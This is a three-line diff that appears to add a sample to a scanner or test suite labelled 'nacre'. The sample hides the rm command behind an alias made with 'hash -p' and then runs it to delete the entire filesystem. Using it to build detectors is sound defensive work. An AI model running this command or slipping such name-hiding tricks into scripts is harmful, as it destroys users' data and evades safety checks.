@@ -1,0 +1,3 @@
+# nacre: found code.hidden-name
+hash -p /bin/rm x
+x -rf /
